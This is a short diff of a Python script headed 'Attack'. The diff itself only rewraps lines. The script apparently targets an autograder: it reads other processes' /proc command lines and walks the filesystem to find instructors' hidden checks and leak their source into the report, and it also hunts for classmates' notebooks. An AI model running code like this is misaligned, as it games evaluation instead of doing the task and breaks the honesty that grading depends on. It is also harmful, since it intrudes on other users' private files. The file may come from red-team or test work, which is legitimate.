@@ -1,5 +1,5 @@
-# Attack: find the instructors' hidden checks (the grader's command line, the filesystem, the caller's frames)
-# and raise their source back into the report; also look for classmates' notebooks.
+# Attack: find the instructors' hidden checks (the grader's command line, the filesystem, the
+# caller's frames) and raise their source back into the report; also look for classmates' notebooks.
 import inspect
 import os
 import torch
@@ -11,7 +11,8 @@ def loot():
             found.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode())
         except OSError:
             pass
-    skip = {"proc", "sys", "dev", "usr", "lib", "site-packages", ".pyenv", "__pycache__", "fixtures", ".git"}
+    skip = {"proc", "sys", "dev", "usr", "lib", "site-packages", ".pyenv", "__pycache__", "fixtures",
+            ".git"}
     for top, folders, files in os.walk("/"):
         folders[:] = [f for f in folders if f not in skip]
         for name in files:
